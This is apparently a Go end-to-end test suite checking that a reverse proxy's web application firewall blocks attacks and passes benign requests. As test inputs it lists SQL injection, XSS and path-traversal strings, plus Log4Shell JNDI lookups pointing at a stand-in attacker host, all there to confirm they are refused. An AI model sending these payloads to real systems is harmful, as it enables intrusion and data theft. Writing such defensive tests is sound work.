package e2e

import (
	"bufio"
	"bytes"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"
)

// wafBackend is the echo backend, except that /leak answers with a header
// the test's response rule refuses.
func wafBackend(t *testing.T) *httptest.Server {
	echo := echoBackend(t, "app")
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/leak" {
			w.Header().Set("X-Debug-Token", "secret-session-dump")
			fmt.Fprint(w, "internal details")
			return
		}
		echo.Config.Handler.ServeHTTP(w, r)
	}))
	t.Cleanup(srv.Close)
	return srv
}

const wafConfig = `listeners: [{addr: "{{LISTEN}}"}]
access_log: {enabled: true, output: stdout}
upstreams: {app: {targets: ["%s"]}}
sites:
  - routes:
      # (A one-rule set for the mode and body-limit checks: compiling the
      # CRS once per route costs seconds under -race.)
      - match: {path_prefix: /detect/}
        upstream: app
        middleware: [{waf: {rules: none, mode: detect, directives: ['SecRule ARGS "@contains evil" "id:100,phase:2,deny,status:403,log,msg:''evil argument''"']}}]
      - match: {path_prefix: /partial/}
        upstream: app
        middleware: [{waf: {rules: none, request_body_limit: 16KiB, request_body_over_limit: inspect_partial, directives: ['SecRule ARGS "@contains evil" "id:100,phase:2,deny,status:403,log,msg:''evil argument''"']}}]
      - upstream: app
        middleware:
          - waf:
              rules: crs
              paranoia_level: 1
              mode: block
              exclude_paths: [/static/]
              request_body_limit: 64KiB
              inspect_response: true
              directives_before_crs:
                - SecAction "id:900200,phase:1,pass,t:none,nolog,setvar:'tx.allowed_methods=GET HEAD POST OPTIONS PUT DELETE'"
              directives:
                - SecRule RESPONSE_HEADERS:X-Debug-Token "@rx ." "id:10001,phase:3,deny,status:403,log,msg:'debug token leaked'"
`

func TestWAFBlocksAttacksAndPassesOrdinaryTraffic(t *testing.T) {
	backend := wafBackend(t)
	gh := startGatehouse(t, fmt.Sprintf(wafConfig, backend.URL))
	c := newClient(t)
	send := func(method, target, ctype, body string, hdr ...string) (*http.Response, []byte) {
		t.Helper()
		var rd *strings.Reader
		if body != "" {
			rd = strings.NewReader(body)
		}
		req, err := http.NewRequest(method, gh.URL(target), nil)
		if rd != nil {
			req, err = http.NewRequest(method, gh.URL(target), rd)
		}
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36")
		req.Header.Set("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
		req.Header.Set("Accept-Language", "en-GB,en;q=0.9")
		if ctype != "" {
			req.Header.Set("Content-Type", ctype)
		}
		for i := 0; i+1 < len(hdr); i += 2 {
			req.Header.Set(hdr[i], hdr[i+1])
		}
		resp, err := c.Do(req)
		if err != nil {
			t.Fatalf("%s %s: %v", method, target, err)
		}
		defer resp.Body.Close()
		var b bytes.Buffer
		b.ReadFrom(resp.Body)
		return resp, b.Bytes()
	}

	attacks := []struct {
		name, method, target, ctype, body string
		hdr                               []string
		rulePrefix                        string // a rule id of this family must be named
	}{
		{"sqli query", "GET", "/products?id=" + url.QueryEscape("1' OR '1'='1' -- "), "", "", nil, "942"},
		{"sqli union form body", "POST", "/login", "application/x-www-form-urlencoded", "user=" + url.QueryEscape("admin' UNION SELECT username, password FROM users--") + "&pass=x", nil, "942"},
		{"sqli json body", "POST", "/api/items", "application/json", `{"filter":"1; DROP TABLE users; --","sort":"name"}`, nil, "942"},
		{"xss query", "GET", "/search?q=" + url.QueryEscape("<script>alert(document.cookie)</script>"), "", "", nil, "941"},
		{"xss json body", "POST", "/api/comments", "application/json", `{"comment":"<img src=x onerror=alert(1)>"}`, nil, "941"},
		{"path traversal", "GET", "/download?file=" + url.QueryEscape("../../../../etc/passwd"), "", "", nil, "930"},
		{"log4shell header", "GET", "/", "", "", []string{"X-Api-Version", "${jndi:ldap://attacker.test:1389/Exploit}"}, "944"},
		{"log4shell user agent", "GET", "/", "", "", []string{"User-Agent", "${jndi:ldap://attacker.test/a}"}, "944"},
		{"excluded prefix with dot segments", "GET", "/static/../admin?file=" + url.QueryEscape("../../../../etc/passwd"), "", "", nil, "930"},
	}
	for _, a := range attacks {
		resp, body := send(a.method, a.target, a.ctype, a.body, a.hdr...)
		assertErrorPage(t, resp, body, 403, "waf", "coraza", "rule", "942", "941", "930", "944")
		if t.Failed() {
			t.Fatalf("%s: %s %s was not refused properly", a.name, a.method, a.target)
		}
	}
	// Every refusal is in the access log with the rule ids, and in a log
	// line with the rule ids and messages.
	var blocked []string
	waitFor(5*time.Second, func() bool {
		blocked = blocked[:0]
		for _, l := range accessLines(gh.stdout.String()) {
			if b, _ := l["blocked"].(string); b != "" {
				blocked = append(blocked, b)
			}
		}
		return len(blocked) >= len(attacks)
	})
	if len(blocked) != len(attacks) {
		t.Fatalf("access log has %d blocked entries, want %d: %v", len(blocked), len(attacks), blocked)
	}
	for i, a := range attacks {
		if !strings.HasPrefix(blocked[i], "waf:") || !strings.Contains(blocked[i], ","+a.rulePrefix) && !strings.HasPrefix(blocked[i], "waf:"+a.rulePrefix) {
			t.Errorf("%s: access log blocked=%q, want waf: and a %sxxx rule", a.name, blocked[i], a.rulePrefix)
		}
	}
	var wafLines []map[string]any
	waitFor(5*time.Second, func() bool {
		wafLines = wafLines[:0]
		for _, l := range jsonLines(gh.stderr.String()) {
			if l["msg"] == "waf" && l["action"] == "block" {
				wafLines = append(wafLines, l)
			}
		}
		return len(wafLines) >= len(attacks)
	})
	if len(wafLines) < len(attacks) {
		t.Fatalf("%d waf log lines, want %d:\n%s", len(wafLines), len(attacks), gh.stderr.String())
	}
	if msgs, _ := wafLines[0]["messages"].([]any); len(msgs) == 0 || !strings.Contains(fmt.Sprint(msgs), "SQL Injection") {
		t.Errorf("first waf line %v: want the rule messages", wafLines[0])
	}

	// Ordinary traffic passes, bodies reach the backend byte for byte.
	// (Every argument costs the CRS a few hundred regular expressions: a
	// body of thousands of fields takes seconds under -race.)
	bigJSON := `{"items":[` + strings.Repeat(`{"id":12345,"name":"widget","tags":["blue","small"],"price":9.5},`, 20) +
		`{"id":0}],"notes":"` + strings.Repeat("Delivered on time and in good order. ", 100) + `"}`
	benign := []struct{ method, target, ctype, body string }{
		{"GET", "/", "", ""},
		{"GET", "/index.html", "", ""},
		{"GET", "/search?q=" + url.QueryEscape("blue widgets") + "&page=2&sort=price", "", ""},
		{"GET", "/static/app.js", "", ""},
		{"GET", "/static/x?file=" + url.QueryEscape("../../etc/passwd"), "", ""}, // excluded path
		{"POST", "/api/users", "application/json", `{"name":"Alice Smith","email":"alice@example.com","age":34,"tags":["admin","ops"]}`},
		{"POST", "/contact", "application/x-www-form-urlencoded", "name=John+Doe&email=john%40example.com&message=Hello%2C+I+would+like+a+quote+for+100+units."},
		{"PUT", "/api/doc/7", "application/json", `{"title":"Quarterly report","text":"Revenue grew 4% on the year.\nCosts were flat."}`}, // PUT allowed by directives_before_crs
		{"POST", "/api/bulk", "application/json", bigJSON},
	}
	for _, b := range benign {
		resp, body := send(b.method, b.target, b.ctype, b.body)
		if resp.StatusCode != 200 {
			t.Errorf("benign %s %s: status %d (%q)", b.method, b.target, resp.StatusCode, body)
			continue
		}
		if !bytes.Contains(body, []byte(`"body_sha":"`+sha256Hex([]byte(b.body))+`"`)) || !bytes.Contains(body, []byte(fmt.Sprintf(`"cl":%d`, len(b.body)))) {
			t.Errorf("benign %s %s: the backend saw %s, want the body intact (%d bytes)", b.method, b.target, body, len(b.body))
		}
	}
	// A chunked body with Expect: 100-continue is read, inspected and
	// replayed; an attack in it is refused.
	for _, cse := range []struct {
		body   string
		status int
	}{{"note=" + strings.Repeat("harmless+text+", 200), 200}, {"q=" + url.QueryEscape("1 UNION SELECT password FROM users"), 403}} {
		conn, br := dialRaw(t, gh.Addr())
		fmt.Fprintf(conn, "POST /upload HTTP/1.1\r\nHost: a.test\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\nExpect: 100-continue\r\n\r\n")
		conn.SetReadDeadline(time.Now().Add(20 * time.Second)) // the CRS is slow under -race
		line := readLineTimeout(t, br, 5*time.Second)
		if !strings.HasPrefix(line, "HTTP/1.1 100") {
			t.Fatalf("want 100 Continue before the body is read, got %q", line)
		}
		readLineTimeout(t, br, 5*time.Second) // blank line
		fmt.Fprintf(conn, "%x\r\n%s\r\n0\r\n\r\n", len(cse.body), cse.body)
		resp, err := http.ReadResponse(bufio.NewReader(br), nil)
		if err != nil {
			t.Fatal(err)
		}
		var rb bytes.Buffer
		rb.ReadFrom(resp.Body)
		resp.Body.Close()
		conn.Close()
		if resp.StatusCode != cse.status {
			t.Errorf("chunked body (%d bytes): status %d, want %d", len(cse.body), resp.StatusCode, cse.status)
		}
		if cse.status == 200 && !strings.Contains(rb.String(), sha256Hex([]byte(cse.body))) {
			t.Errorf("chunked body was not forwarded intact: %s", rb.String())
		}
	}

	// Bodies over the cap: rejected with 413 by default ...
	huge := "data=" + strings.Repeat("a", 100<<10)
	if resp, body := send("POST", "/upload", "application/x-www-form-urlencoded", huge); resp.StatusCode != 413 {
		t.Errorf("body over request_body_limit: %d %q, want 413", resp.StatusCode, body)
	}
	// ... or inspected up to the cap and forwarded whole with inspect_partial.
	partial := "data=" + strings.Repeat("a", 20<<10) + "&q=evil"
	if resp, body := send("POST", "/partial/upload", "application/x-www-form-urlencoded", partial); resp.StatusCode != 200 ||
		!bytes.Contains(body, []byte(sha256Hex([]byte(partial)))) {
		t.Errorf("inspect_partial: %d %q, want 200 and the whole body forwarded (the attack lies past the cap)", resp.StatusCode, body)
	}
	early := "q=evil&data=" + strings.Repeat("a", 20<<10)
	if resp, _ := send("POST", "/partial/upload", "application/x-www-form-urlencoded", early); resp.StatusCode != 403 {
		t.Errorf("inspect_partial with the attack inside the cap: %d, want 403", resp.StatusCode)
	}

	// Detect mode logs and lets through.
	if resp, _ := send("GET", "/detect/x?id=evil", "", ""); resp.StatusCode != 200 {
		t.Errorf("detect mode: status %d, want 200", resp.StatusCode)
	}
	if !waitFor(5*time.Second, func() bool { return strings.Contains(gh.stderr.String(), `"action":"detect"`) }) {
		t.Errorf("detect mode logged nothing:\n%s", gh.stderr.String())
	}

	// Response inspection: the backend's leaky answer becomes a 403.
	resp, body := send("GET", "/leak", "", "")
	assertErrorPage(t, resp, body, 403, "secret", "internal")
	if resp.Header.Get("X-Debug-Token") != "" {
		t.Errorf("blocked response still carries the backend's X-Debug-Token")
	}
}

// The settings' own checks are tested in internal/filter/waf; this is the
// CLI's view of one of them.
func TestWAFSettingsAreValidated(t *testing.T) {
	gh := newProc(t, t.TempDir()+"/g.yaml")
	gh.writeConfig(`listeners: [{addr: "{{LISTEN}}"}]
sites:
  - routes:
      - respond: {body: hi}
        middleware:
          - waf: {paranoia_level: 5}
`)
	code, stdout, stderr := runCLI(t, "validate", "-c", gh.cfgPath)
	if out := stdout + stderr; code != 1 || !strings.Contains(out, "g.yaml:6:35: sites[0].routes[0].middleware[0].waf.paranoia_level: must be 1, 2, 3 or 4") {
		t.Errorf("validate exit %d said %q, want the positioned paranoia_level error", code, out)
	}
}
